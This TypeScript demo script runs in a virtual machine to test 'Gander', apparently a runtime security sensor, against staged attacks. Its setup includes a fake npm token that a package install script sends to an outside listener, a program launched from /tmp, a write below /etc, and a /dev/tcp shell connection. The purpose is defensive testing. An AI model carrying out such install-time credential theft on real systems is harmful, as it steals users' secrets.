// SPDX-License-Identifier: Apache-2.0
// Runs in the virtual machine: the same attack first without Gander, then with it.
import { spawn } from "node:child_process";
import { closeSync, copyFileSync, openSync, readFileSync, writeFileSync } from "node:fs";
import process from "node:process";
import { setTimeout as sleep } from "node:timers/promises";
import { compactLine } from "../../packages/cli/src/events/compact.ts";
import type { EventJson } from "../../packages/cli/src/events/event-json.ts";
import { socketChannel } from "../../packages/cli/src/sensor-channel.ts";
import { connectSensor, type SensorClient } from "../../packages/cli/src/sensor-client.ts";
import { type Check, conclude } from "./checks.ts";
import { type EventLog, eventsOf, openEventLog } from "./event-log.ts";
import { lineageLines, lineagesOf } from "./lineage.ts";
import { createOutside, OUTSIDE_ADDRESS, OUTSIDE_PORT, type Outside } from "./outside.ts";
import { runCommand } from "./run-command.ts";
import { createScreen, type Screen } from "./screen.ts";

const POLICIES = "/gander/policies/examples";
const GANDER = "/gander/dist/gander.mjs";
const PACKAGE = "/gander/e2e/demo.d/package";
const SECRET = "//registry.example/:_authToken=npm_demo0123456789\n";
const VICTIM = "/etc/bar";
const WRITE = `echo foo >> ${VICTIM}`;
const MINER = "/tmp/not-a-miner";
const SENSOR_LOG = "/run/demo-sensor.log";
const SOCKET = "/var/run/gander/gander.sock";

type Stage = { readonly screen: Screen; readonly outside: Outside };
type Guarded = Stage & { readonly log: EventLog };

async function main(): Promise<number> {
  const screen = createScreen((text) => void process.stdout.write(text), {
    color: process.env.DEMO_COLOR === "always",
  });
  writeFileSync("/root/.npmrc", SECRET);
  writeFileSync(VICTIM, "precious\n");
  copyFileSync("/bin/echo", MINER);
  using outside = await createOutside();
  const stage = { screen, outside };

  const checks = [await attackWithoutGuard(stage)];
  await using sensor = await startSensor(screen);
  const stop = new AbortController();
  const guarded = { ...stage, log: await openEventLog(sensor.client, stop.signal) };
  checks.push(...(await programFromTmp(guarded)));
  checks.push(...(await supplyChain(guarded)));
  checks.push(...(await writeBelowEtc(guarded)));
  checks.push(...(await innocentWork(guarded)));
  stop.abort();
  screen.heading("What held");
  return conclude(checks, screen);
}

/** Shows that the attack works, so that its failure later means something. */
async function attackWithoutGuard({ screen, outside }: Stage): Promise<Check> {
  screen.heading("Without Gander: the attack works");
  screen.tell(
    `A package is installed. Its install script reads the token of npm and sends it to ${OUTSIDE_ADDRESS}.`,
  );
  const args = [`${PACKAGE}/postinstall.cjs`, OUTSIDE_ADDRESS, String(OUTSIDE_PORT)];
  screen.command(`node ${args.join(" ")}`);
  await runCommand("node", args);
  await sleep(300);
  const { connections, text } = outside.received();
  screen.tell(`On the other side arrived: ${screen.paint("bad", JSON.stringify(text))}`);
  outside.forget();
  return {
    promise: "the attack works where nothing guards",
    kept: text === SECRET,
    found: `${connections} connection, ${text.length} bytes stolen`,
  };
}

async function startSensor(screen: Screen): Promise<{ client: SensorClient } & AsyncDisposable> {
  screen.heading("Gander starts, with three policies");
  screen.command(`gander run --policies ${POLICIES}`);
  const log = openSync(SENSOR_LOG, "w");
  const child = spawn("node", [GANDER, "run", "--policies", POLICIES], {
    stdio: ["ignore", log, log],
  });
  closeSync(log);
  const client = await readySensor(() => child.exitCode !== null);
  for (const policy of await client.listPolicies())
    screen.show([
      `${screen.paint("bold", policy.name ?? "")} ${policy.state?.replace("TP_STATE_", "").toLowerCase()}`,
    ]);
  return {
    client,
    async [Symbol.asyncDispose]() {
      client.close();
      child.kill("SIGTERM");
    },
  };
}

const START_MS = 60_000;

async function readySensor(ended: () => boolean): Promise<SensorClient> {
  const end = performance.now() + START_MS;
  for (;;) {
    try {
      const client = await connectSensor({ channel: socketChannel(SOCKET), timeoutMs: 5000 });
      const { health_status: health = [] } = await client.health();
      if (health.some(({ status }) => status === "HEALTH_STATUS_RUNNING")) return client;
      client.close();
    } catch (error) {
      if (performance.now() > end) throw error;
    }
    if (ended() || performance.now() > end)
      throw new Error(`The sensor did not get ready:\n${readFileSync(SENSOR_LOG, "utf8")}`);
    await sleep(50);
  }
}

async function programFromTmp({ screen, log }: Guarded): Promise<readonly Check[]> {
  screen.heading("A program is started from /tmp: seen");
  screen.tell("The policy only reports it: the line with the name of the function it hooks.");
  screen.command(`${MINER} digging`);
  const { pid, status } = await runCommand(MINER, ["digging"]);
  const events = eventsOf(pid, await log.untilExit(pid));
  screen.show(compact(events, screen));
  const seen = callsOf(events, "detect-tmp-exec");
  const promise = "a program started from /tmp is reported, and left alone";
  return [
    {
      promise,
      kept: seen.length > 0 && status === 0,
      found: `${seen.length} event, exit ${status}`,
    },
  ];
}

async function supplyChain({ screen, log, outside }: Guarded): Promise<readonly Check[]> {
  screen.heading("The compromised package again: stopped");
  screen.tell(
    "Connections are allowed to 127.0.0.1, 10.42.0.0/16 and 10.43.0.0/16. What ran, as one family:",
  );
  const args = [`${PACKAGE}/postinstall.cjs`, OUTSIDE_ADDRESS, String(OUTSIDE_PORT)];
  screen.command(`node ${args.join(" ")}`);
  const { pid } = await runCommand("node", args);
  const events = await log.untilExit(pid);
  const trees = lineagesOf(pid, events);
  for (const tree of trees) screen.show(lineageLines(tree, screen.paint));
  await sleep(300);
  const { connections, text } = outside.received();
  screen.tell(`On the other side arrived: ${connections} connections, ${text.length} bytes.`);
  const killed = callsOf(events, "monitor-network-activity-outside-cluster").filter(isKill);
  return [
    {
      promise: "the connection never arrives",
      kept: connections === 0 && text === "",
      found: `the listener saw ${connections} connections and ${text.length} bytes`,
    },
    {
      promise: "who tried is killed, and shown with its ancestors",
      kept: killed.length > 0 && trees.length > 0,
      found: `${killed.length} process killed`,
    },
  ];
}

async function writeBelowEtc({ screen, log }: Guarded): Promise<readonly Check[]> {
  screen.heading("A write below /etc: stopped");
  screen.command(`bash -c '${WRITE}'; echo $?`);
  const before = readFileSync(VICTIM, "utf8");
  const { pid, status } = await runCommand("bash", ["-c", WRITE]);
  screen.show([String(status)]);
  const events = eventsOf(pid, await log.untilExit(pid));
  screen.show(compact(events, screen));
  const after = readFileSync(VICTIM, "utf8");
  const exits = events.filter(({ process_exit: exit }) => exit?.signal === "SIGKILL");
  return [
    { promise: `${VICTIM} is unchanged`, kept: after === before, found: JSON.stringify(after) },
    {
      promise: "the writer is killed",
      kept: status === 137 && exits.length === 1,
      found: `exit status ${status}, ${exits.length} exit by SIGKILL seen`,
    },
  ];
}

async function innocentWork({ screen }: Guarded): Promise<readonly Check[]> {
  screen.heading("Everybody else goes on working");
  screen.command("cat /etc/hostname");
  const read = await runCommand("cat", ["/etc/hostname"]);
  screen.show([read.output.trim()]);
  const local = "exec 3<>/dev/tcp/127.0.0.1/7 && echo allowed";
  screen.command(`bash -c '${local}'`);
  const echo = spawn("socat", ["TCP-LISTEN:7,reuseaddr", "PIPE"], { stdio: "ignore" });
  await sleep(500);
  const connect = await runCommand("bash", ["-c", local]);
  echo.kill("SIGKILL");
  screen.show([connect.output.trim()]);
  return [
    {
      promise: "reading /etc is not disturbed",
      kept: read.status === 0,
      found: `exit ${read.status}`,
    },
    {
      promise: "connections to allowed addresses are not disturbed",
      kept: connect.status === 0,
      found: `exit ${connect.status}`,
    },
  ];
}

function compact(events: readonly EventJson[], screen: Screen): readonly string[] {
  const options = { color: screen.color, timestamps: false, stackTraces: false };
  return events.map((event) => compactLine(event, options));
}

function callsOf(events: readonly EventJson[], policy: string): readonly EventJson[] {
  return events.filter(({ process_kprobe: call }) => call?.policy_name === policy);
}

function isKill({ process_kprobe: call }: EventJson): boolean {
  return call?.action === "KPROBE_ACTION_SIGKILL";
}

process.exitCode = await main();
